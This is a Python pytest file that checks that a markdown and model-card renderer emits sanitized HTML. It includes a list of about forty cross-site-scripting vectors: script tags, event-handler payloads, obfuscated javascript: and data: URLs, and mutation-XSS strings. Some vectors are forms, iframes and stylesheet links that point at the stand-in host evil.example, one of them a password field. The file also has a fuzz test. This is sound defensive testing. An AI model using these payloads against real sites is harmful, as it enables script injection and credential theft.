"""Cards and descriptions render to sanitized HTML: no script, no handlers, no unsafe URLs."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hver.core.cards import parse_front_matter, strip_front_matter
from hver.core.markdown import render_card, render_markdown

ALLOWED_TAGS = {
    "h1", "h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "blockquote",
    "ul", "ol", "li", "dl", "dt", "dd", "pre", "code", "kbd", "samp",
    "table", "thead", "tbody", "tfoot", "tr", "th", "td", "caption",
    "a", "img", "details", "summary",
    "em", "strong", "b", "i", "u", "del", "s", "ins", "mark", "sup", "sub", "small",
    "span", "div",
}
URL_ATTRIBUTES = {"href", "src"}
SAFE_SCHEMES = {"http", "https", "mailto"}
# What a browser drops before it reads a scheme.
_IGNORED_IN_SCHEME = re.compile(r"[\x00-\x20]")


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {k: v or "" for k, v in attrs}))


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.elements


def assert_safe(html: str) -> None:
    """Every tag on the allow-list, no handler or style outside table alignment, safe URLs."""
    for tag, attrs in elements(html):
        assert tag in ALLOWED_TAGS, (tag, html)
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, html)
            if name == "style":
                assert tag in {"th", "td"}, html
                assert re.fullmatch(r"text-align:(left|center|right)", value), html
            if name in URL_ATTRIBUTES:
                scheme = urlsplit(_IGNORED_IN_SCHEME.sub("", value)).scheme.lower()
                assert scheme in SAFE_SCHEMES or scheme == "", (tag, value, html)
        if tag == "a":
            assert attrs.get("rel") == "noopener noreferrer nofollow", html
    assert "<script" not in html.lower()


XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x OnError=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="https://evil.example"></iframe>',
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<style>body { display: none }</style>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    '<div style="position:fixed;top:0" onclick="alert(1)">x</div>',
    '<p onmouseover="alert(1)">x</p>',
    '<details ontoggle="alert(1)" open>x</details>',
    '<form action="https://evil.example"><input name=password></form>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<!--<img src=x onerror=alert(1)>-->",
    '<a href="https://ok.example" target="_blank" style="color:red">x</a>',
]


@pytest.mark.parametrize("source", XSS)
def test_xss_vectors_are_neutralised(source: str) -> None:
    assert_safe(render_markdown(source))


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("<script>alert(1)</script>ok", "ok"),
        ("<style>p { color: red }</style>ok", "ok"),
        ("<img src=x onerror=alert(1)>", '<img src="x">'),
        (
            '<a href="JaVaScRiPt:alert(1)">x</a>',
            '<p><a rel="noopener noreferrer nofollow">x</a></p>\n',
        ),
        (
            '<a href="&#106;avascript:alert(1)">x</a>',
            '<p><a rel="noopener noreferrer nofollow">x</a></p>\n',
        ),
        ("[x](javascript:alert(1))", "<p>[x](javascript:alert(1))</p>\n"),
        ("![i](data:image/png;base64,AAA)", '<p><img alt="i"></p>\n'),
        (
            '<p align="center" style="color:red" onclick="x()">c</p>',
            '<p align="center">c</p>',
        ),
        ('<div align="evil" class="banner">d</div>', "<div>d</div>"),
        ("<svg onload=alert(1)><circle r=1 /></svg>", "<p></p>\n"),
        ("<!-- hidden --><b>b</b>", "<b>b</b>"),
    ],
)
def test_exact_sanitized_output(source: str, expected: str) -> None:
    assert render_markdown(source) == expected


def test_iframe_content_is_text() -> None:
    html = render_markdown("<iframe src=https://evil.example><script>alert(1)</script></iframe>")
    assert html == "&lt;script&gt;alert(1)&lt;/script&gt;"


def test_table_keeps_alignment_only() -> None:
    html = render_markdown("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n")
    assert_safe(html)
    cells = [(t, a) for t, a in elements(html) if t in {"th", "td"}]
    assert [a["style"] for _, a in cells] == [
        "text-align:left", "text-align:center", "text-align:right",
    ] * 2
    raw = render_markdown(
        '<table><tr><td style="text-align: right; background: url(x)">1</td>'
        '<td style="TEXT-ALIGN: Center">2</td></tr></table>'
    )
    assert [a for t, a in elements(raw) if t == "td"] == [{}, {"style": "text-align:center"}]


def test_code_block_shows_html_escaped() -> None:
    html = render_markdown("```python\n<script>alert(1)</script>\nx = 1 < 2\n```\n")
    assert html == (
        '<pre><code class="language-python">&lt;script&gt;alert(1)&lt;/script&gt;\n'
        "x = 1 &lt; 2\n</code></pre>\n"
    )
    inline = render_markdown("Use `<img onerror=x>` here")
    assert inline == "<p>Use <code>&lt;img onerror=x&gt;</code> here</p>\n"


def test_code_class_only_a_language() -> None:
    assert render_markdown('<code class="language-py evil">x</code>') == "<p><code>x</code></p>\n"
    assert render_markdown('<code class="navbar">x</code>') == "<p><code>x</code></p>\n"


def test_headings_emphasis_and_lists() -> None:
    html = render_markdown(
        "# Title\n\n## Usage\n\n*em* **strong** ~~gone~~ H<sub>2</sub>O x<sup>2</sup>\n\n"
        "- one\n- two\n\n3. three\n4. four\n\n> quoted\n\n---\n"
    )
    assert html == (
        "<h1>Title</h1>\n<h2>Usage</h2>\n"
        "<p><em>em</em> <strong>strong</strong> <s>gone</s> H<sub>2</sub>O x<sup>2</sup></p>\n"
        "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n"
        '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>\n'
        "<blockquote>\n<p>quoted</p>\n</blockquote>\n<hr>\n"
    )


def test_links_and_images() -> None:
    html = render_markdown(
        "[paper](https://arxiv.org/abs/1 \"The paper\") [cfg](./config.json) "
        "[mail](mailto:team@example.org) <https://example.org>\n\n"
        "![logo](https://example.org/logo.png \"Logo\")\n\n"
        '<img src="https://example.org/a.png" alt="a" width="200" height="100" loading="lazy">'
    )
    assert_safe(html)
    found = elements(html)
    rel = "noopener noreferrer nofollow"
    assert found == [
        ("p", {}),
        ("a", {"href": "https://arxiv.org/abs/1", "title": "The paper", "rel": rel}),
        ("a", {"href": "./config.json", "rel": rel}),
        ("a", {"href": "mailto:team@example.org", "rel": rel}),
        ("a", {"href": "https://example.org", "rel": rel}),
        ("p", {}),
        ("img", {"src": "https://example.org/logo.png", "alt": "logo", "title": "Logo"}),
        ("img", {"src": "https://example.org/a.png", "alt": "a", "width": "200",
                 "height": "100"}),
    ]


def test_details_summary() -> None:
    html = render_markdown("<details open><summary>Training</summary>\n\n**lr** 3e-4\n</details>")
    assert html == (
        '<details open=""><summary>Training</summary>\n'
        "<p><strong>lr</strong> 3e-4</p>\n</details>"
    )


CARD = """\
---
license: apache-2.0
language:
- en
tags:
- text-classification
title: "<script>alert('front matter')</script>"
---

<div align="center">
  <img src="https://example.org/banner.png" alt="banner" width="600" onerror="alert(1)">
</div>

# tiny-bert

A **small** model. See [the config](config.json).

## Results

| Task | Accuracy |
|------|---------:|
| SST-2 | 91.2 |

## Usage

```python
from transformers import pipeline
clf = pipeline("text-classification", model="acme/tiny-bert")
print(clf("<b>great</b>"))
```

<details>
<summary>Citation</summary>

```bibtex
@misc{tiny}
```
</details>
"""


def test_model_card_front_matter_stripped() -> None:
    assert parse_front_matter(CARD)["license"] == "apache-2.0"
    html = render_card(CARD)
    assert_safe(html)
    assert "license" not in html
    assert "front matter" not in html
    assert html.startswith('<div align="center">')
    tags = [t for t, _ in elements(html)]
    assert tags == [
        "div", "img", "h1", "p", "strong", "a", "h2", "table", "thead", "tr", "th", "th",
        "tbody", "tr", "td", "td", "h2", "pre", "code", "details", "summary", "pre", "code",
    ]
    assert '<img src="https://example.org/banner.png" alt="banner" width="600">' in html
    assert 'print(clf("&lt;b&gt;great&lt;/b&gt;"))' in html


@pytest.mark.parametrize(
    ("readme", "body"),
    [
        ("---\nlicense: mit\n---\n# Hi\n", "# Hi\n"),
        ("\ufeff---\r\nlicense: mit\r\n---\r\n\r\n# Hi\r\n", "# Hi\r\n"),
        ("---\n---\nbody", "body"),
        ("# No metadata\n---\n", "# No metadata\n---\n"),
        ("\ufeff# BOM only", "# BOM only"),
        ("---\n: not [valid yaml\n---\nbody", "body"),
        ("---\nunterminated: true\n", "---\nunterminated: true\n"),
        ("---\nlicense: mit\n---\n\n    indented code\n", "    indented code\n"),
    ],
)
def test_strip_front_matter(readme: str, body: str) -> None:
    assert strip_front_matter(readme) == body


def test_crlf_front_matter_is_parsed_and_stripped() -> None:
    readme = "---\r\nlicense: mit\r\n---\r\n# Hi\r\n"
    assert parse_front_matter(readme) == {"license": "mit"}
    assert render_card(readme) == "<h1>Hi</h1>\n"


def test_card_without_front_matter_renders_whole() -> None:
    assert render_card("# Title\n\ntext\n") == "<h1>Title</h1>\n<p>text</p>\n"
    assert render_card("") == ""


_FRAGMENTS = [
    *XSS,
    "# h\n", "\n\n", "```\n", "`", "<", ">", '"', "'", "&", "&#", "javascript", ":", "[", "](",
    ")", "![", "<a href=", "<img src=", " onerror=", "<details>", "</details>", "| a |\n|--|\n",
    "<!--", "-->", "<![CDATA[", "]]>", "\\", "data:", "http://x", "\t", "\x00",
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_FRAGMENTS), max_size=12))
def test_fuzzed_fragments_stay_safe(parts: list[str]) -> None:
    assert_safe(render_markdown("".join(parts)))
